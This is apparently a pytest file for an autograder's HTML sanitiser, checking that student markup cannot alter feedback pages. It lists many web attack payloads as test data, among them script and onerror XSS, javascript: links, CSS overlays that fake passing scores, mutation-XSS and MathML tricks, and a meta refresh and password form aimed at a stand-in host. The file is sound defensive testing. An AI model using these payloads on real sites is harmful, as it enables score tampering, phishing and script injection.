"""What a student's markup can do to their feedback page (``autograder/sanitize.py``, applied by
``autograder/feedback.py`` and its template): nothing to the grader's parts.

Each hostile input goes where a student can put it: a markdown or raw cell of their own (just
before a failed test), a written answer, or an output of their answer cell (``text/html``,
``text/markdown``, ``image/svg+xml``, ``image/png``, ``application/javascript``, a widget). The
page made of ps3 with it is parsed as a browser parses it (html5lib) and compared with the page
made without it: the grader's parts (the summary, each test's heading, score, result and
message) must have the same words at the same place in the tree, the head must be the same, no
element the allowlist does not know may remain anywhere, no style but a table cell's alignment,
no class of the grader's, no id or anchor name of the student's, no event handler, and no
address but ``http(s):``, ``mailto:``, ``#`` and ``data:`` images. What the student wrote around
the hostile part stays.
"""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser

import nbformat
import pytest
from bs4 import BeautifulSoup
from latex2mathml.converter import convert
from pygments.token import STANDARD_TYPES
from test_feedback import ROOT, graded_ps3, render

from autograder.sanitize import sanitize_html, sanitize_mathml

EVIL = "https://evil.example"
WIDGET = "application/vnd.jupyter.widget-view+json"
PNG = (  # one pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

#: name -> (where the student puts it, the hostile input). "markdown": a markdown cell of the
#: student's own; otherwise the mime type of an output of their answer cell.
HOSTILE = {
    "a style element hides the scores": (
        "markdown",
        "<style>.score, .feedback-message, .pull-right {display: none}</style>",
    ),
    "a style element in mixed case": ("markdown", "<StYlE>#summary {visibility: hidden}</sTyLe>"),
    "a style sheet imported": ("markdown", f"<style>@import url({EVIL}/x.css);</style>"),
    "a style attribute that overlays the page": (
        "markdown",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;'
        'z-index:9999">Passed. Score: 4 / 4</div>',
    ),
    "a failed part made to look passed": (
        "markdown",
        '<span style="color:#3c763d">.feedback-test.failed .panel{border-color:#d6e9c6}</span>'
        "<style>.panel-danger>.panel-heading{background:#dff0d8;color:#3c763d}</style>",
    ),
    "a meta refresh": ("markdown", f'<meta http-equiv="refresh" content="0;url={EVIL}/">'),
    "a style sheet linked": ("markdown", f'<link rel="stylesheet" href="{EVIL}/x.css">'),
    "a base address": ("markdown", f'<base href="{EVIL}/">'),
    "an iframe": ("markdown", f'<iframe src="{EVIL}/" width="2000" height="2000"></iframe>'),
    "an object and an embed": (
        "markdown",
        f'<object data="{EVIL}/x.svg"></object><embed src="{EVIL}/x.swf">',
    ),
    "a form": (
        "markdown",
        f'<form action="{EVIL}/"><input name="password"><button>Resubmit</button></form>',
    ),
    "event handlers": (
        "markdown",
        f'<img src="data:image/png;base64,{PNG}" onerror="alert(1)" onload="alert(1)">'
        '<p onmouseover="alert(1)">hover</p>',
    ),
    "a javascript: address": ("markdown", '<a href="JaVaScRiPt:alert(1)">open</a>'),
    "a markdown link to javascript:": (
        "markdown",
        "[open](javascript:alert(1)) [x](jav&#x09;ascript:alert(1))",
    ),
    "a data: address of HTML": (
        "markdown",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>'
        '<img src="data:text/html,<script>alert(1)</script>">'
        '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    ),
    "an address elsewhere": (
        "markdown",
        f'<img src="{EVIL}/track.png"><img src="../../gradebook.db">',
    ),
    "svg with a style, a script and a foreignObject": (
        "markdown",
        "<svg><style>.score{display:none}</style><script>alert(1)</script>"
        '<foreignObject><div style="position:fixed">over</div></foreignObject></svg>',
    ),
    "an unclosed comment swallows what follows": ("markdown", "<!-- the grader's markup after me"),
    "closing divs end the grader's containers": (
        "markdown",
        "</div></div></div></div></div></div>"
        '<div class="panel panel-success"><div class="panel-heading">Score: 4 / 4</div></div>',
    ),
    "unclosed tags": ("markdown", "<div><table><tr><td><b><i><pre>unclosed"),
    "a plaintext element turns the rest into text": ("markdown", "<plaintext>"),
    "entities of a style element stay text": (
        "markdown",
        "&lt;style&gt;.score{display:none}&lt;/style&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    ),
    "the grader's classes, ids and anchors": (
        "markdown",
        '<div class="feedback-passed-note panel panel-success" id="summary">'
        '<a name="test_b_softmax_ce"></a><h1 id="top">Passed.</h1></div>',
    ),
    "a raw HTML block around markdown": (
        "markdown",
        '<div style="display:none">\n\n**hidden**\n\n</div>\n\n<details open><summary>x</summary>'
        "<style>.feedback-result{display:none}</style></details>",
    ),
    "noscript and title that hide markup in text": (
        "markdown",
        '<noscript><p title="</noscript><style>.score{display:none}</style>"></p></noscript>'
        "<title><style>.score{display:none}</style></title>",
    ),
    "MathML namespace confusion": (
        "markdown",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ),
    "markup in \\text and its kin": (
        "markdown",
        "$\\text{<style>.score{display:none}</style>}$ $\\textbf{<img src=x onerror=alert(1)>}$ "
        f"$\\mbox{{<meta http-equiv=refresh content=0;url={EVIL}>}}$ $\\fbox{{</div></div>}}$",
    ),
    "attributes from \\style, \\href and \\color": (
        "markdown",
        "$\\style{position:fixed;top:0;left:0}{x}$ $\\href{javascript:alert(1)}{y}$ "
        '$\\color{red" onclick="alert(1)}{z}$ $\\hspace{-40em} w$',
    ),
    "an attachment of HTML": ("markdown", "![x](attachment:page.html)"),
    "a text/html output with a script and a style": (
        "text/html",
        "<script>alert(1)</script><style>.score{display:none}</style>"
        '<table border="1" class="dataframe"><tr><th>a</th></tr><tr><td>1</td></tr></table>',
    ),
    "a text/html output that closes the grader's divs": (
        "text/html",
        '</div></div></div></div><div class="feedback-passed-note">Passed.</div><!--',
    ),
    "an svg output with a script and a style": (
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg"><style>.score{display:none}</style>'
        "<script>alert(1)</script><text>drawn</text></svg>",
    ),
    "a text/markdown output with a style": (
        "text/markdown",
        "**bold** <style>.score{display:none}</style> [x](javascript:alert(1)) "
        f"<meta http-equiv=refresh content=0;url={EVIL}>",
    ),
    "a png output that leaves its attribute": (
        "image/png",
        f'{PNG}" onerror="alert(1)" style="position:fixed',
    ),
    "a javascript output": ("application/javascript", "document.body.innerHTML = ''"),
    "a widget's view and state": (
        WIDGET,
        {"model_id": "</script><style>.score{display:none}</style>", "version_major": 2},
    ),
    "a raw cell of HTML": (
        "raw",
        f'<style>.score{{display:none}}</style><meta http-equiv="refresh" content="0;url={EVIL}">'
        "</div></div></div><!--",
    ),
}

#: where the student's words around the payload are shown as they wrote them (a raw cell's
#: are, but in no element of their own)
AROUND = ("markdown", "answer", "text/html", "text/markdown", "raw")

#: what the sanitiser may leave on a student's element
CLASSES = {"highlight", "tex"} | {name for name in STANDARD_TYPES.values() if name}
FORBIDDEN = {
    "script", "style", "meta", "link", "base", "iframe", "object", "embed", "form", "input",
    "button", "svg", "foreignobject", "textarea", "template", "noscript", "title", "plaintext",
    "xmp", "mglyph", "frame", "frameset", "applet", "audio", "video", "source",
}  # fmt: skip
#: the grader's parts of the page: their words and their place must not change
GRADER = (
    "#summary",
    "#summary tr",
    ".feedback-test > .panel > .panel-heading",
    ".feedback-test .feedback-result",
    ".feedback-message",
    ".nbgrader_cell > .panel-heading",
)


def hostile_ps3(where: str, payload: str) -> nbformat.NotebookNode:
    """ps3, graded, with ``payload`` between the student's words: in a markdown cell of their own
    before the failed test of part (b), or as an output of their answer to part (b)."""
    nb = graded_ps3()
    at = next(i for i, c in enumerate(nb.cells) if c.get("id") == "test-b-softmax-ce")
    words = payload
    if where in AROUND:
        words = f"Before the payload. {payload} After the payload."
    if where in (
        "markdown",
        "answer",
    ):  # inside a paragraph, and as a block of its own (raw HTML blocks)
        words += f"\n\n{payload}\n\nAfter the block."
    if where == "raw":  # a raw cell the HTML page shows as it is (nbconvert's rule)
        nb.cells.insert(at, nbformat.v4.new_raw_cell(words, metadata={"raw_mimetype": "text/html"}))
    elif where in ("markdown", "answer"):
        cell = nbformat.v4.new_markdown_cell(words)
        cell.id = "notes"
        if where == "answer":  # a written answer: the page gives it a heading of its own
            answer = {"solution": True, "grade": False, "locked": False, "grade_id": "notes"}
            cell.metadata["nbgrader"] = answer
        page = base64.b64encode(b"<style>.score{display:none}</style>").decode()
        cell.attachments = {"page.html": {"text/html": page}}
        nb.cells.insert(at, cell)
    else:
        if where == WIDGET:  # the widgets' state goes at the end of the page
            state = "application/vnd.jupyter.widget-state+json"
            nb.metadata["widgets"] = {state: {"state": payload, "version_major": 2}}
        data = {where: words, "text/plain": "the plain text"}
        answer = nb.cells[at - 1]
        assert answer.metadata.nbgrader.get("solution")
        answer.outputs.append(nbformat.v4.new_output("display_data", data=data))
        metadata = {"text/html": {"isolated": True}, "filenames": {"image/png": f"{EVIL}/x.png"}}
        answer.outputs.append(nbformat.v4.new_output("display_data", data=data, metadata=metadata))
    return nb


def student_cell(soup: BeautifulSoup):
    """The cell where the payload went: the one before the failed test of part (b)."""
    return soup.find(id="cell-id=test-b-softmax-ce").find_previous_sibling("div")


def path_of(element) -> tuple:
    return tuple((p.name, tuple(p.get("class", [])), p.get("id")) for p in element.parents)


def grader_parts(soup: BeautifulSoup) -> list[tuple]:
    """Every grader's part: its selector, words and place in the tree, in document order."""
    return [
        (selector, " ".join(e.get_text(" ").split()), path_of(e))
        for selector in GRADER
        for e in soup.select(selector)
    ]


@pytest.fixture(scope="module")
def baseline() -> dict[str, BeautifulSoup]:
    """The pages without a payload (the words around it only), per place."""
    places = ("markdown", "answer", "raw", "text/html")
    return {where: BeautifulSoup(render(hostile_ps3(where, "")), "html5lib") for where in places}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_input_changes_nothing_of_the_graders(name: str, baseline) -> None:
    where, payload = HOSTILE[name]
    page = render(hostile_ps3(where, payload))
    clean = baseline[where if where in baseline else "text/html"]
    only_the_students_part_changed(BeautifulSoup(page, "html5lib"), clean, where)


def test_a_written_answer_is_sanitised_as_well(baseline) -> None:
    """A written answer (a markdown cell the student writes in, under a heading of the page's)
    goes through the same markdown: every markdown payload at once, the comment last."""
    payloads = sorted((p for w, p in HOSTILE.values() if w == "markdown"), key="<!--".__eq__)
    soup = BeautifulSoup(render(hostile_ps3("answer", "\n\n".join(payloads))), "html5lib")
    heading = student_cell(soup).select_one(".panel-heading").get_text(" ")
    assert heading.split()[:2] == ["Your", "answer"]
    only_the_students_part_changed(soup, baseline["answer"], "answer")


def only_the_students_part_changed(soup: BeautifulSoup, clean: BeautifulSoup, where: str) -> None:
    """The grader's parts of ``soup`` are those of ``clean``, and what the student made keeps
    only what the allowlist allows."""
    # the grader's parts: the same words at the same places, and the same head
    assert grader_parts(soup) == grader_parts(clean)
    assert len(grader_parts(soup)) > 20
    assert str(soup.head) == str(clean.head)
    failed = soup.find("a", attrs={"name": "test_b_softmax_ce"}).parent  # after the payload
    assert "Likely bug" in failed.select_one(".feedback-message").get_text()

    # nothing the allowlist does not know, anywhere in the body
    body = soup.body
    assert not {e.name for e in body.find_all(True)} & FORBIDDEN
    for element in body.find_all(True):
        for attribute, value in element.attrs.items():
            assert not attribute.lower().startswith("on"), (element.name, attribute)
            if attribute == "style":
                assert element.name in ("td", "th") and re.fullmatch(r"text-align: \w+;?", value)
            if attribute in ("href", "src"):
                assert re.match(r"(https?:|mailto:|#|data:image/(png|jpeg|gif|webp);)", value) or (
                    value.startswith("data:image/svg+xml;base64,")
                    and element.parent.get("class") == ["output_svg", "output_subarea"]
                ), (element.name, value)

    # the student's part: the words around the payload; no class, id or name of the grader's
    student = student_cell(soup)
    assert where not in AROUND or "Before the payload." in body.get_text()
    assert where not in AROUND or where == "raw" or "Before the payload." in student.get_text()
    made = student.select(".text_cell_render, .output_subarea")
    assert made
    for element in (e for part in made for e in part.find_all(True)):
        assert set(element.get("class", [])) <= CLASSES, element
        assert "id" not in element.attrs and "name" not in element.attrs, element


def test_the_words_a_student_wrote_stay() -> None:
    markdown = (
        "## My notes\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nimport numpy as np\n```\n\n"
        f"See [the docs](https://numpy.org) or [below](#notes), and $\\frac{{a}}{{b}}$.\n\n"
        f'<img src="data:image/png;base64,{PNG}" alt="a dot">'
    )
    page = render(hostile_ps3("markdown", f"\n\n{markdown}\n\n"))
    cell = student_cell(BeautifulSoup(page, "html5lib"))
    assert cell.find("h2").get_text() == "My notes"
    assert cell.select_one("td[style]")["style"].replace(" ", "") == "text-align:left"
    assert cell.select_one("div.highlight span.kn").get_text() == "import"
    assert cell.find("a", href="https://numpy.org") and cell.find("a", href="#notes")
    assert cell.find("math").find("mfrac")
    assert cell.find("img", alt="a dot")["src"] == f"data:image/png;base64,{PNG}"

    html_table = (
        '<table border="1" class="dataframe"><tr><th>a</th></tr><tr><td>1</td></tr></table>'
    )
    page = render(hostile_ps3("text/html", html_table))
    answer = student_cell(BeautifulSoup(page, "html5lib"))
    assert [td.get_text() for td in answer.select(".output_html td")] == ["1", "1"]


# -- the allowlist itself ------------------------------------------------------------------------


class Tags(HTMLParser):
    """Every start tag and its attributes' names, in order."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, tuple(sorted(a for a, _ in attrs if a != "xmlns"))))


def tags_of(markup: str) -> list[tuple[str, tuple[str, ...]]]:
    parser = Tags()
    parser.feed(markup)
    return parser.seen


def test_the_math_of_every_assignment_keeps_all_its_tags_and_attributes() -> None:
    seen = 0
    for path in sorted((ROOT / "source_assignments").glob("ps*/ps*.ipynb")):
        nb = nbformat.read(path, as_version=4)
        for cell in nb.cells:
            if cell.cell_type != "markdown":
                continue
            for tex in re.findall(r"\$\$(.+?)\$\$|\$([^$\n]+)\$", cell.source, re.S):
                mathml = convert((tex[0] or tex[1]).strip())
                assert tags_of(sanitize_mathml(mathml)) == tags_of(mathml), tex
                seen += 1
    assert seen > 150


@pytest.mark.parametrize(
    ("fragment", "kept"),
    [
        ('<table><tr><td style="text-align: right; position: fixed">1</td></tr></table>',
         "text-align:right"),
        ('<a href="mailto:a@b.org" target="_top">m</a>', 'href="mailto:a@b.org"'),
        ('<img src="data:image/jpeg;base64,/9j/4A==" width="30" height="30%">', 'width="30"'),
        ('<math><mspace width="-0.1667em"/><mpadded width="0"><mi>x</mi></mpadded></math>',
         '<mspace width="-0.1667em"></mspace><mpadded width="0">'),
        ('<ol start="3"><li>c</li></ol>', 'start="3"'),
    ],
)  # fmt: skip
def test_a_plain_value_stays_and_a_hostile_one_goes(fragment: str, kept: str) -> None:
    clean = sanitize_html(fragment).replace(" ", "")
    assert kept.replace(" ", "") in clean
    for hostile in ("position", "target", 'height="30%"'):
        assert hostile not in clean


@pytest.mark.parametrize(
    "mathml",
    [
        '<math><mpadded voffset="1em"><mpadded voffset="1em"><mi>x</mi></mpadded></mpadded></math>',
        '<math><mpadded height="0" depth="0"><mi>x</mi></mpadded></math>',  # over the part above
        '<math><mstyle scriptlevel="-9" mathsize="40em"><mi>x</mi></mstyle></math>',
        '<math><mspace width="-40em"/><mi>x</mi></math>',  # over the words before
        '<math><mstyle mathcolor="red;background:url(x)"><mi>x</mi></mstyle></math>',
        '<math><mi style="position:fixed" href="javascript:1" class="score" id="top">x</mi></math>',
    ],
)
def test_mathml_keeps_no_attribute_that_moves_or_restyles_it(mathml: str) -> None:
    assert tags_of(sanitize_mathml(mathml)) in (
        [("math", ()), ("mpadded", ()), ("mi", ())],
        [("math", ()), ("mpadded", ()), ("mpadded", ()), ("mi", ())],
        [("math", ()), ("mspace", ()), ("mi", ())],
        [("math", ()), ("mstyle", ()), ("mi", ())],
        [("math", ()), ("mi", ())],
    )


def test_sanitising_twice_changes_nothing() -> None:
    """What the page holds reads back as the same tree (no markup that changes on a second
    parse, as mutation XSS needs)."""
    for _, payload in HOSTILE.values():
        once = sanitize_html(payload)
        assert sanitize_html(once) == once, payload


@pytest.mark.parametrize(
    "tex",
    [
        r"\text{<style>.score{display:none}</style>}",
        r"\textbf{<img src=x onerror=alert(1)>}",
        r"\mbox{<meta http-equiv=refresh content=0>}",
        r"\fbox{</div></div><b>x}",
        r"x^{\text{<i>}}",
        r"\style{position:fixed;top:0}{x}",
        r"\href{javascript:alert(1)}{x}",
        r"\color{red;position:fixed}{x}",
    ],
)
def test_render_math_lets_no_markup_or_attribute_through(tex: str) -> None:
    from autograder.feedback import render_math

    mathml = render_math(tex)
    tags = tags_of(mathml)
    assert tags[0] == ("math", ("display",)) and len(tags) > 2, mathml
    assert not {tag for tag, _ in tags} & {"style", "img", "meta", "div", "b", "i", "script"}
    attributes = {a for _, names in tags for a in names}
    assert not attributes & {"style", "href", "src", "onerror", "class", "id", "mathcolor"}
